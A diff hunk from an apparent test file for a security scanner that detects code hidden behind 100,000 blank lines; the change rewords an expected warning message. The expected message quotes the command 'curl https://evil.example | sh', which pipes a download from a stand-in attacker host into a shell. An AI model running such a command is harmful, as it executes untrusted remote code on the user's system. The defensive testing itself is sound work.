@@ -71,7 +71,7 @@ test('a program behind a hundred thousand blank lines is named with what stands 
   })
   const [padded] = found.filter(({ code }) => code === 'padded-file')
   expect(padded).toMatchObject({ level: 'high', line: 100_003, column: 1 })
-  expect(padded?.message).toContain('goes on behind 100000 blank lines: curl https://evil.example | sh')
+  expect(padded?.message).toContain('continues after 100000 blank lines: curl https://evil.example | sh')
 })
 
 test.each([
